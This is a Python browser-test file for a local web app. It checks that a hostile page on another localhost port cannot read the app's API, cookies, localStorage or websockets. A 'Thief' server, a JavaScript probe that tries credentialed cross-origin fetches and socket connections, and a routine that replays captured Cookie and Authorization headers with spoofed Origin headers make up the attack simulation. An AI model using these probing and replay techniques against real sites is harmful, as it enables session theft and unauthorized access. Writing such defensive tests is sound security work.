"""Another program on this machine whose page the user opens in the same browser: what it receives opens nothing."""

import json
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress

import pytest
from aiohttp import ClientSession, WSServerHandshakeError, web
from browsers import Tab, walk
from pages import Opened, open_page

from realtime.clock import now_ns

PATHS = [
    "/api/report", "/api/settings", "/api/minute", "/api/gallery", "/api/presets", "/api/devices", "/api/snapshot",
    "/api/recordings", "/api/results", "/api/preview/model/ada", "/metrics",
]  # fmt: skip
SOCKETS = ["/ws/live", "/ws/own", "/ws/sound"]
TRIES = """async (home) => {
  const got = [];
  const paths = ["/", "/talk.js", "/api/report", "/api/settings", "/metrics", "/api/preview/model/ada"];
  for (const path of paths) for (const credentials of ["include", "omit"]) for (const mode of ["cors", "no-cors"]) {
    try {
      const answer = await fetch(home + path, { credentials, mode });
      if (answer.type !== "opaque") got.push([path, mode, answer.status]);
    } catch { /* refused, as it should be */ }
  }
  for (const path of ["/api/preview/model/ada", "/api/snapshot"]) {
    const drawn = await new Promise((say) => {
      const image = new Image();
      image.onload = () => say(true);
      image.onerror = () => say(false);
      image.src = home + path;
    });
    if (drawn) got.push([path, "img"]);
  }
  for (const path of ["/ws/own", "/ws/live", "/ws/sound"]) for (const how of [[], ["masquerade"]]) {
    const opened = await new Promise((say) => {
      const socket = new WebSocket(home.replace("http", "ws") + path, how);
      socket.onopen = () => say(true);
      socket.onclose = () => say(false);
    });
    if (opened) got.push([path, "socket"]);
  }
  return JSON.stringify([got, document.cookie, document.referrer, Object.entries(localStorage)]);
}"""


class Thief:
    """A web server on another port of 127.0.0.1, and all that browsers sent it."""

    def __init__(self) -> None:
        self.home = ""
        self.received: list[web.BaseRequest] = []

    async def answer(self, request: web.BaseRequest) -> web.StreamResponse:
        self.received.append(request)
        headers = {
            "Access-Control-Allow-Origin": request.headers.get("Origin", "*"),
            "Access-Control-Allow-Headers": "*",
        }
        headers["Access-Control-Allow-Credentials"] = "true"
        return web.Response(text="<!doctype html><title>Thief</title>", content_type="text/html", headers=headers)

    async def try_all(self, home: str) -> list[str]:
        """Ask the page at `home` with everything that was received, and headers as its own page would send."""
        opened = []
        for stolen in self.received:
            headers = {"Origin": home, "Sec-Fetch-Site": "same-origin", "Referer": f"{home}/"}
            headers |= {name: stolen.headers[name] for name in ("Cookie", "Authorization") if name in stolen.headers}
            async with ClientSession(headers=headers) as session:
                for path in PATHS:
                    for query in ("", f"?{stolen.query_string}"):
                        async with session.get(f"{home}{path}{query}") as answer:
                            opened += [path] if answer.status != 403 else []
                async with session.post(f"{home}/api/settings", json={"panic": True}) as answer:
                    opened += ["POST"] if answer.status != 403 else []
                for path in SOCKETS:
                    for protocols in ((), tuple(morsel.split("=")[-1] for morsel in stolen.cookies.values())):
                        with suppress(WSServerHandshakeError):
                            async with session.ws_connect(home + path, protocols=protocols):
                                opened.append(path)
        return opened


@asynccontextmanager
async def listening(thief: Thief) -> AsyncIterator[Thief]:
    runner = web.ServerRunner(web.Server(thief.answer))
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    host, port = runner.addresses[0][:2]
    thief.home = f"http://{host}:{port}"
    try:
        yield thief
    finally:
        await runner.cleanup()


@pytest.fixture
def opened() -> Iterator[Opened]:
    with open_page(now_ns) as page:
        yield page


@pytest.mark.slow
def test_another_port_gets_nothing_that_opens_the_page(opened: Opened) -> None:
    home = f"http://127.0.0.1:{opened.page.port}"

    async def story(tab: Tab) -> None:
        await tab.says("You are Ada")
        assert await tab.js("location.href") == f"{home}/"  # the address that was used is not left to be read
        async with listening(Thief()) as thief:
            # Asked from our own page; then opened in another tab, and in the same.
            await tab.js(f"fetch('{thief.home}/', {{ mode: 'no-cors', credentials: 'include' }}).catch(() => 0)")
            second = await tab.page.context.new_page()
            await second.goto(f"{thief.home}/second")
            said = json.loads(await second.evaluate(TRIES, home))
            assert said == [[], "", "", []]
            await tab.page.goto(f"{thief.home}/same")
            assert json.loads(await tab.js(f"({TRIES})('{home}')")) == [[], "", "", []]
            assert {"/second", "/same"} <= {request.path for request in thief.received}
            assert not [request.headers["Cookie"] for request in thief.received if "Cookie" in request.headers]
            assert await thief.try_all(home) == []
        assert not opened.settings.get().panic
        # The user goes back, loads the page again, and opens it in another tab: it still works.
        await tab.page.goto(f"{home}/")
        await tab.says("You are Ada")
        await tab.page.reload()
        await tab.until("document.getElementById('veil').hidden")
        await tab.click("#see-own")
        await tab.until("!document.getElementById('own').hidden")
        await second.goto(opened.page.url)  # used long ago
        await second.wait_for_function("() => document.getElementById('who').textContent.includes('Ada')")
        await tab.until("document.querySelector('.choice img').naturalWidth > 0")

    walk(opened, story)


@pytest.mark.slow
def test_a_browser_that_was_not_let_in_is_told_how(opened: Opened) -> None:
    async def story(tab: Tab) -> None:
        context = await tab.page.context.browser.new_context()
        page = await context.new_page()
        answer = await page.goto(f"http://127.0.0.1:{opened.page.port}/")
        assert answer.status == 403
        await page.wait_for_function(
            "() => document.getElementById('error').textContent.includes('masquerade printed')"
        )
        assert await page.evaluate("document.querySelectorAll('.choice').length") == 0

    walk(opened, story)
